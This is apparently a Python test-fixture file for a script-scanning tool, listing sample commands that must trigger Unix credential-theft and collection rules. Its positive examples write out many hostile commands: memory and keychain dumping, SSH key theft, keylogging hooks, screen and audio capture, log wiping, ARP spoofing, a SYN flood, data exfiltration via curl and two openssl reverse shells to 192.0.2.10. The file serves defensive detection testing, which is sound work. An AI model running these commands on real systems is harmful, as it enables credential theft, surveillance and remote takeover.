"""Examples for the Unix credential and collection `TUX-` rules; all synthetic, for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

SH = Lang.BASH
PY = Lang.PYTHON

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    (
        "TUX-040",
        SH,
        'PID=$(pgrep -n -f "$NAME")\ndd if=/proc/"$PID"/mem of=/tmp/dump bs=1 skip=$start',
    ),
    ("TUX-040", SH, "gcore -o /tmp/core $(pgrep sshd)"),
    ("TUX-040", SH, "sudo ./mimipenguin.sh"),
    ("TUX-041", SH, "cat /etc/master.passwd > /tmp/mp.txt"),
    ("TUX-042", SH, "cat ~/.bash_history | grep -e '-p ' -e 'pass' -e 'ssh'"),
    ("TUX-043", SH, "find / -name id_rsa 2>/dev/null"),
    ("TUX-043", SH, "find /home -name '*.pem' -exec cp {} /tmp/keys \\;"),
    ("TUX-043", SH, "cp ~/.ssh/id_rsa /tmp/k"),
    ("TUX-044", SH, "security dump-keychain -d login.keychain"),
    ("TUX-044", SH, "cp ~/Library/Keychains/login.keychain-db /tmp/"),
    ("TUX-045", SH, 'security find-generic-password -wa "Chrome"'),
    (
        "TUX-046",
        SH,
        'echo "session required pam_tty_audit.so disable=* enable=* open_only log_passwd" >>'
        " /etc/pam.d/sshd",
    ),
    ("TUX-046", SH, "PROMPT_COMMAND='history -a >(tee -a ~/.keys.log)'"),
    ("TUX-046", SH, "trap 'echo \"$BASH_COMMAND\" >> /tmp/.k' DEBUG"),
    ("TUX-046", SH, "xinput test 12 > /tmp/keys.txt"),
    ("TUX-047", SH, 'zenity --entry --title "Update" --password'),
    ("TUX-048", SH, "xwd -root -out /tmp/s.xwd"),
    ("TUX-048", SH, "screencapture -C -x /tmp/s.png"),
    (
        "TUX-049",
        SH,
        "osascript -e 'tell application \"QuickTime Player\" to start (new audio recording)'",
    ),
    (
        "TUX-050",
        SH,
        'echo "$PW" | gpg --batch --yes --passphrase-fd 0 --cipher-algo AES256 -c /etc/passwd',
    ),
    (
        "TUX-050",
        SH,
        "openssl rsautl -encrypt -inkey pub.pem -pubin -in /etc/passwd -out /tmp/p.enc",
    ),
    ("TUX-050", SH, "ccrypt -e -K secret /tmp/data.txt"),
    (
        "TUX-051",
        SH,
        "dd of=/var/log/syslog if=/dev/zero count=$(ls -l /var/log/syslog | awk '{print $5}')",
    ),
    ("TUX-052", SH, "shred -u -z /tmp/loot.tgz"),
    ("TUX-053", SH, "sudo shutdown -h now"),
    ("TUX-053", SH, "init 6"),
    ("TUX-053", SH, "echo b > /proc/sysrq-trigger"),
    ("TUX-054", SH, "userdel -r bob"),
    ("TUX-054", SH, "dscl . -delete /Users/bob"),
    ("TUX-055", SH, "split -b 5000000 /tmp/loot.tgz /tmp/part_"),
    ("TUX-057", SH, "scp victim@192.0.2.10:/tmp/data.tgz /tmp/"),
    (
        "TUX-058",
        SH,
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect"
        " 192.0.2.10:443 > /tmp/s",
    ),
    ("TUX-058", SH, "openssl s_client -quiet -connect 192.0.2.10:443 | /bin/bash"),
    ("TUX-059", SH, "arpspoof -i eth0 -t 10.0.0.5 10.0.0.1"),
    ("TUX-060", SH, "hping3 -S -p 80 --flood 10.0.0.5"),
    ("TUX-056", SH, 'enc=$(echo -n 111-11-1111 | base64)\ncurl -XPOST "${enc}.example.org"'),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    (SH, "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''\ncat ~/.ssh/id_ed25519.pub"),
    (SH, "history | tail -n 20\ngpg --verify release.tar.gz.asc"),
    (SH, "dd if=/dev/zero of=/swapfile bs=1M count=1024\nmkswap /swapfile"),
    (SH, "openssl enc -d -aes-256-cbc -in backup.enc -out backup.tar\nsplit -l 1000 big.csv part_"),
    (SH, "trap 'rm -rf \"$TMPDIR\"' EXIT\nuserdel -r olduser"),
)
